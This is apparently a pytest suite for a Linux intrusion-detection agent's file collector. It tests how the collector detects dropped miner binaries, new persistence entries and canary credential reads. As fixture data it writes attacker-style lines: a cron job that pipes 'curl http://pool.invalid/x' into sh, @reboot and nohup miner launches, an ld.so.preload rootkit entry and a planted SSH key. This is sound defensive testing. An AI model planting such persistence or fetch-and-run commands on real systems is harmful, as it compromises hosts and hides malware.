"""The files collector on real files: drops, persistence diffs, canaries, watch limits."""

from __future__ import annotations

import asyncio
import json
import os
import select
import subprocess
import sys
import time
from pathlib import Path

import pytest
from collector_run import Running

from sentinel.collectors.files.collector import FilesCollector
from sentinel.core import config
from sentinel.core.events import FileAccess, FileChange
from sentinel.ops import metrics

pytestmark = pytest.mark.timeout(60)

ROOT = os.geteuid() == 0
ELF = b"\x7fELF\x02\x01\x01" + b"\0" * 57


def make_cfg(tmp: Path, **watch: object) -> config.Config:
    """Watch only under tmp: drops in tmp/drops, nothing of the real system."""
    (tmp / "drops").mkdir(exist_ok=True)
    values = {
        "paths": [str(tmp / "drops")],
        "persistence": [],
        "homes": [],
        "home_files": [],
        **watch,
    }
    lines = [f"{k} = {json.dumps(v)}" for k, v in values.items() if k != "canaries"]
    canaries = json.dumps(watch.get("canaries", []))
    return config.parse(
        f"[agent]\nstate_dir = {json.dumps(str(tmp / 'state'))}\n"
        f"[watch]\n" + "\n".join(lines) + f"\n[canaries]\npaths = {canaries}\n"
    )


def changes(run: Running, path: Path, role: str = "drop") -> list[FileChange]:
    return run.of(FileChange, lambda e: e.path == str(path) and e.role == role)


def limit_hits() -> float:
    return metrics.errors.labels("files.watch_limit")._value.get()


async def test_drop_is_reported_once_when_written(tmp_path: Path) -> None:
    async with Running(FilesCollector, make_cfg(tmp_path)) as run:
        assert run.state().ok, run.state().reason
        target = tmp_path / "drops" / "xmrig"
        with open(target, "wb") as f:
            for _ in range(5):  # a slow writer: many modifications, one event
                f.write(ELF)
                f.flush()
                await asyncio.sleep(0.1)
            closed = time.time()
        ev = await run.wait(FileChange, lambda e: e.path == str(target))
        assert ev.role == "drop" and ev.kind == "created" and ev.time >= closed
        await asyncio.sleep(1.2)
        assert len(changes(run, target)) == 1


async def test_drop_still_open_is_reported_once_quiet(tmp_path: Path) -> None:
    async with Running(FilesCollector, make_cfg(tmp_path)) as run:
        target = tmp_path / "drops" / "config.json"
        with open(target, "w") as f:
            f.write('{"url": "stratum+tcp://127.0.0.1:3333"}')
            f.flush()
            ev = await run.wait(FileChange, lambda e: e.path == str(target), timeout=2.0)
        assert ev.kind == "created"


async def test_moved_in_files_and_new_directories(tmp_path: Path) -> None:
    outside = tmp_path / "outside"
    (outside / "pkg").mkdir(parents=True)
    (outside / "pkg" / "miner").write_bytes(ELF)
    (outside / "single").write_bytes(ELF)
    drops = tmp_path / "drops"
    async with Running(FilesCollector, make_cfg(tmp_path)) as run:
        os.rename(outside / "single", drops / "single")
        os.rename(outside / "pkg", drops / "pkg")
        (drops / "a" / "b").mkdir(parents=True)
        (drops / "a" / "b" / "late").write_bytes(ELF)
        single = await run.wait(FileChange, lambda e: e.path == str(drops / "single"))
        pkg = await run.wait(FileChange, lambda e: e.path == str(drops / "pkg" / "miner"))
        late = await run.wait(FileChange, lambda e: e.path == str(drops / "a" / "b" / "late"))
        assert single.kind == pkg.kind == "moved" and late.kind == "created"
        (drops / "pkg" / "second").write_bytes(ELF)  # the moved-in directory is watched
        await run.wait(FileChange, lambda e: e.path == str(drops / "pkg" / "second"))


async def test_chmod_after_write_is_reported_again(tmp_path: Path) -> None:
    async with Running(FilesCollector, make_cfg(tmp_path)) as run:
        target = tmp_path / "drops" / "payload"
        target.write_bytes(ELF)
        await run.wait(FileChange, lambda e: e.path == str(target))
        target.chmod(0o755)
        ev = await run.wait(FileChange, lambda e: e.path == str(target) and e.kind == "modified")
        assert ev.role == "drop"


async def test_depth_limit(tmp_path: Path) -> None:
    drops = tmp_path / "drops"
    (drops / "one" / "two").mkdir(parents=True)
    async with Running(FilesCollector, make_cfg(tmp_path, max_depth=1)) as run:
        (drops / "one" / "two" / "deep").write_bytes(ELF)
        (drops / "one" / "shallow").write_bytes(ELF)
        await run.wait(FileChange, lambda e: e.path == str(drops / "one" / "shallow"))
        (drops / "fresh" / "two").mkdir(parents=True)  # a new tree: watched to depth 1 too
        (drops / "fresh" / "two" / "deep").write_bytes(ELF)
        (drops / "fresh" / "ok").write_bytes(ELF)
        await run.wait(FileChange, lambda e: e.path == str(drops / "fresh" / "ok"))
        await asyncio.sleep(0.5)
        assert not run.of(FileChange, lambda e: e.path.endswith("/deep"))


async def test_watch_limit_degrades_to_a_shallower_watch(tmp_path: Path) -> None:
    drops = tmp_path / "drops"
    for name in "abcd":
        (drops / name / "sub").mkdir(parents=True)
    hits = limit_hits()
    async with Running(FilesCollector, make_cfg(tmp_path, max_watches=3)) as run:
        state = run.state()
        assert not state.ok and "watch limit" in state.reason and "depth 0" in state.reason
        assert state.detail["watches"] == 3 and limit_hits() > hits
        (drops / "top").write_bytes(ELF)
        (drops / "d" / "below").write_bytes(ELF)
        await run.wait(FileChange, lambda e: e.path == str(drops / "top"))
        await asyncio.sleep(0.5)
        assert not changes(run, drops / "d" / "below")


async def test_symlinks_are_not_followed(tmp_path: Path) -> None:
    outside = tmp_path / "outside"
    outside.mkdir()
    drops = tmp_path / "drops"
    drops.mkdir()
    (drops / "link").symlink_to(outside, target_is_directory=True)
    async with Running(FilesCollector, make_cfg(tmp_path)) as run:
        (outside / "secret").write_bytes(ELF)
        (drops / "filelink").symlink_to(outside / "secret")
        (drops / "control").write_bytes(ELF)
        await run.wait(FileChange, lambda e: e.path == str(drops / "control"))
        await asyncio.sleep(0.5)
        assert [e.path for e in run.of(FileChange)] == [str(drops / "control")]


async def test_own_state_dir_is_not_a_drop(tmp_path: Path) -> None:
    drops = tmp_path / "drops"
    cfg = make_cfg(tmp_path)
    cfg.agent.state_dir = str(drops / "state")
    (drops / "state").mkdir(parents=True)
    async with Running(FilesCollector, cfg) as run:
        (drops / "state" / "alerts.jsonl").write_text('{"rule": "miner.name"}\n')
        (drops / "control").write_bytes(ELF)
        await run.wait(FileChange, lambda e: e.path == str(drops / "control"))
        await asyncio.sleep(0.5)
        assert not run.of(FileChange, lambda e: "/state/" in e.path)


async def test_persistence_reports_only_added_lines(tmp_path: Path) -> None:
    cron = tmp_path / "etc" / "cron.d"
    cron.mkdir(parents=True)
    job = cron / "backup"
    job.write_text("# nightly\n0 3 * * * root /usr/bin/backup\n")
    async with Running(FilesCollector, make_cfg(tmp_path, persistence=[str(cron)])) as run:
        with open(job, "a") as f:
            f.write("* * * * * root /tmp/.x/kdevtmpfsi\n")
        first = await run.wait(FileChange, lambda e: e.path == str(job))
        assert first.role == "persistence" and first.kind == "modified"
        assert first.added == ["* * * * * root /tmp/.x/kdevtmpfsi"]
        # an editor's save: a new file renamed over the old one, one line more
        staged = tmp_path / "staged"
        staged.write_text(job.read_text() + "@reboot root /dev/shm/x\n")
        await asyncio.sleep(1.1)  # past the one-event-per-second gap
        os.rename(staged, job)
        ev = await run.wait(FileChange, lambda e: e.path == str(job) and e.added != first.added)
        assert ev.kind == "modified" and ev.added == ["@reboot root /dev/shm/x"]
        await asyncio.sleep(1.1)
        job.write_text("# nightly\n")  # lines removed, none added: nothing to report
        new = cron / "fresh"
        new.write_text("*/5 * * * * root curl -s http://pool.invalid/x | sh\n")
        created = await run.wait(FileChange, lambda e: e.path == str(new))
        assert created.kind == "created"
        assert created.added == ["*/5 * * * * root curl -s http://pool.invalid/x | sh"]
        await asyncio.sleep(0.5)
        assert len(changes(run, job, "persistence")) == 2


async def test_persistence_in_homes_and_missing_places(tmp_path: Path) -> None:
    home = tmp_path / "home" / "alice"
    home.mkdir(parents=True)
    (home / ".bashrc").write_text("alias ll='ls -l'\n")
    units = tmp_path / "systemd"
    units.mkdir()
    cfg = make_cfg(
        tmp_path,
        homes=[str(tmp_path / "home" / "*")],
        home_files=[".bashrc", ".ssh/authorized_keys"],
        persistence=[str(units), str(tmp_path / "etc" / "ld.so.preload")],
    )
    async with Running(FilesCollector, cfg) as run:
        with open(home / ".bashrc", "a") as f:
            f.write("nohup /dev/shm/.x >/dev/null 2>&1 &\n")
        rc = await run.wait(FileChange, lambda e: e.path == str(home / ".bashrc"))
        assert rc.added == ["nohup /dev/shm/.x >/dev/null 2>&1 &"]
        (home / ".ssh").mkdir(mode=0o700)
        keys = home / ".ssh" / "authorized_keys"
        keys.write_text("ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIFakeKeyForTests test@example.com\n")
        ev = await run.wait(FileChange, lambda e: e.path == str(keys))
        assert ev.kind == "created" and ev.added[0].startswith("ssh-ed25519 ")
        (tmp_path / "etc").mkdir()
        (tmp_path / "etc" / "ld.so.preload").write_text("/tmp/libhide.so\n")
        pre = await run.wait(FileChange, lambda e: e.path.endswith("ld.so.preload"))
        assert pre.added == ["/tmp/libhide.so"]
        (units / "miner.service").write_text("[Service]\nExecStart=/opt/x/xmrig\n")
        (units / "multi-user.target.wants").mkdir()
        link = units / "multi-user.target.wants" / "miner.service"
        link.symlink_to(units / "miner.service")
        unit = await run.wait(FileChange, lambda e: e.path == str(units / "miner.service"))
        assert unit.added == ["[Service]", "ExecStart=/opt/x/xmrig"]
        enabled = await run.wait(FileChange, lambda e: e.path == str(link))
        assert enabled.kind == "created" and enabled.role == "persistence"


@pytest.mark.skipif(not ROOT, reason="fanotify needs root")
async def test_canary_read_is_attributed_to_the_reader(
    tmp_path: Path, procs: list[subprocess.Popen]
) -> None:
    cfg = make_cfg(tmp_path, canaries=[str(tmp_path / "drops" / "aws-credentials")])
    canary = tmp_path / "drops" / "aws-credentials"
    canary.write_text("[default]\naws_secret_access_key = not-a-real-key\n")
    async with Running(FilesCollector, cfg) as run:
        assert run.state().ok, run.state().reason
        canary.read_text()  # the agent's own read is never an alert
        code = "import sys, time; open(sys.argv[1]).read(); time.sleep(30)"
        reader = subprocess.Popen([sys.executable, "-c", code, str(canary), "canary-reader"])
        procs.append(reader)
        ev = await run.wait(FileAccess, lambda e: reader.pid in e.pids)
        assert ev.path == str(canary) and ev.kind in ("opened", "read")
        assert [p.pid for p in ev.procs] == [reader.pid]
        assert ev.procs[0].cmdline[-1] == "canary-reader"
        assert not run.of(FileAccess, lambda e: os.getpid() in e.pids)
        assert not run.of(FileChange)  # a canary in a watched tree is not a drop
        canary.unlink()
        gone = await run.wait(FileAccess, lambda e: e.kind == "deleted")
        assert gone.path == str(canary)


AGENT = """
import asyncio, dataclasses, json, sys
from sentinel.core import config
from sentinel.rules import intel
from sentinel.collectors.files.collector import FilesCollector
from sentinel.core.context import Context

def emit(ev):
    print(json.dumps({"type": type(ev).__name__, **dataclasses.asdict(ev)}), flush=True)

cfg = config.load(sys.argv[1])
asyncio.run(FilesCollector(Context(cfg, intel.load()), emit).run())
"""
NO_CAPS = ["setpriv", "--bounding-set=-all", "--inh-caps=-all"]


def next_event(proc: subprocess.Popen, kind: str, timeout: float = 10.0) -> dict:
    """The next JSON event of this type the agent subprocess printed."""
    assert proc.stdout is not None
    deadline = time.monotonic() + timeout
    while (left := deadline - time.monotonic()) > 0:
        if select.select([proc.stdout], [], [], left)[0]:
            line = proc.stdout.readline()
            if not line:
                break
            ev = json.loads(line)
            if ev["type"] == kind:
                return ev
    raise AssertionError(f"no {kind} from the agent within {timeout}s")


@pytest.mark.skipif(not ROOT, reason="drops capabilities from root to lose fanotify")
def test_canary_falls_back_to_inotify_without_fanotify(
    tmp_path: Path, procs: list[subprocess.Popen]
) -> None:
    canary = tmp_path / "id_rsa"
    canary.write_text("-----BEGIN FAKE KEY-----\n")
    locked = tmp_path / "locked"  # another user's private dir: no DAC override without caps
    locked.mkdir(mode=0o700)
    os.chown(locked, 65534, 65534)
    cfg_file = tmp_path / "sentinel.toml"
    cfg_file.write_text(
        f"[agent]\nstate_dir = {json.dumps(str(tmp_path / 'state'))}\n"
        f"[watch]\npaths = [{json.dumps(str(locked))}]\npersistence = []\nhomes = []\n"
        f"[canaries]\npaths = [{json.dumps(str(canary))}]\n"
    )
    agent = subprocess.Popen(
        [*NO_CAPS, sys.executable, "-c", AGENT, str(cfg_file)], stdout=subprocess.PIPE, text=True
    )
    procs.append(agent)
    state = next_event(agent, "CollectorState")
    assert not state["ok"] and "fanotify unavailable" in state["reason"]
    assert "1 directory cannot be watched (permission denied)" in state["reason"]
    code = "import sys, time; f = open(sys.argv[1]); f.read(); time.sleep(30)"
    reader = subprocess.Popen([*NO_CAPS, sys.executable, "-c", code, str(canary)])
    procs.append(reader)
    ev = next_event(agent, "FileAccess")
    assert ev["path"] == str(canary) and ev["kind"] in ("opened", "read")
    assert ev["pids"] == [reader.pid]  # found holding it open in /proc/*/fd


async def test_spent_snapshot_budget_is_loud_and_hides_no_line(tmp_path: Path) -> None:
    cron = tmp_path / "etc" / "cron.d"
    cron.mkdir(parents=True)
    (cron / "small").write_text("0 3 * * * root /usr/bin/backup\n")
    big = cron / "big"
    big.write_text("".join(f"{i} * * * * root /bin/true\n" for i in range(20)))
    cfg = make_cfg(tmp_path, persistence=[str(cron)], snapshot_budget=64)
    async with Running(FilesCollector, cfg) as run:
        state = run.state()
        assert not state.ok and "snapshot budget" in state.reason
        assert state.detail["severity"] == "medium"
        with open(big, "a") as f:
            f.write("@reboot root /dev/shm/x\n")
        ev = await run.wait(FileChange, lambda e: e.path == str(big))
        assert "@reboot root /dev/shm/x" in ev.added and len(ev.added) == 21
